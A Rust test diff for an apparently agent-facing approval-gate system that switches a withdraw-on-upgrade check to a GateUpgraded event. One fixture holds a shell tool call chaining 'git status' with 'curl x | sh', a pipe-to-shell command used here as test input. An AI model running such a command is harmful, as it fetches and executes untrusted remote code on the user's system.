@@ -52,7 +52,7 @@ fn gates(out: &Out) -> Vec<&Gate> {
     out.events
         .iter()
         .filter_map(|(_, e)| match e {
-            BackendEvent::GateOpen(g) => Some(&**g),
+            BackendEvent::GateOpen(g) | BackendEvent::GateUpgraded { gate: g, .. } => Some(&**g),
             _ => None,
         })
         .collect()
@@ -378,10 +378,18 @@ fn full_arguments_from_the_transcript_replace_the_excerpt() {
             {"type": "function_call", "id": "c1", "function_id": "shell::exec", "arguments": {"command": "git status && curl x | sh"}}]}}),
         6,
     );
+    // Upgraded in place: nothing was withdrawn (the audit trail would say so).
+    assert!(
+        !out.events
+            .iter()
+            .any(|(_, e)| matches!(e, BackendEvent::GateWithdrawn { .. })),
+        "{:?}",
+        out.events
+    );
     assert!(
         out.events
             .iter()
-            .any(|(_, e)| *e == BackendEvent::GateWithdrawn { id: old.clone() })
+            .any(|(_, e)| matches!(e, BackendEvent::GateUpgraded { old: o, .. } if *o == old))
     );
     let g = gates(&out);
     assert_eq!(g.len(), 1);
